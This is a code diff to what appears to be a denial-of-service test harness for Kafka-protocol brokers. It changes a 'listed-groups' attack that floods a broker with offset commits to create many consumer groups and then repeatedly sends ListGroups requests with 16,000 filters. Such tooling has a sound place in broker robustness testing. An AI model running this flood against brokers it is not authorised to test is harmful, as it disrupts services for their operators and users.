@@ -3,6 +3,7 @@
 import struct
 import time
 import zlib
+from collections.abc import Sequence
 from contextlib import suppress
 from itertools import count
 
@@ -246,14 +247,23 @@ def _deleted_offsets(attacker: Attacker) -> None:
     at_coordinator(attacker, "g").ask_repeatedly(OffsetDeleteRequest(group_id="g", topics=topics), 0)
 
 
+def _coordinated_here(attacker: Attacker, group_ids: Sequence[str]) -> list[str]:
+    """Those of the groups that the attacked broker coordinates: the others would be refused."""
+    with Asking(attacker.target.address, 60) as asking:
+        found = asking.ask(FindCoordinatorRequest(coordinator_keys=group_ids), 4, FindCoordinatorResponse)
+    return [each.key for each in found.coordinators if f"{each.host}:{each.port}" == attacker.target.address]
+
+
 @attack("listed-groups", "ListGroups with 16,000 filters, after as many groups were made as fit into half the time")
 def _listed_groups(attacker: Attacker) -> None:
+    attacker = at_coordinator(attacker, "listed-1")
+    group_ids = _coordinated_here(attacker, [f"listed-{number}" for number in range(attacker.scaled(MAX_ELEMENTS))])
+
     def commit(number: int) -> bytes:
         partitions = [OffsetCommitRequestPartition(0, 1, -1, "")]
         topics = [OffsetCommitRequestTopic(name=attacker.target.topic, partitions=partitions)]
-        return frame(OffsetCommitRequest(group_id=f"listed-{number}", topics=topics), 8)
+        return frame(OffsetCommitRequest(group_id=group_ids[number % len(group_ids)], topics=topics), 8)
 
-    attacker = at_coordinator(attacker, "listed-1")
     flood(Attacker(attacker.target._replace(seconds=attacker.target.seconds / 2)), 10, commit)
     data = frame(ListGroupsRequest(states_filter=names(attacker.scaled(MAX_ELEMENTS))), 4)
     attacker.push(attacker.connections(3), data + frame(ListGroupsRequest(), 4), repeat=True, reads=True)
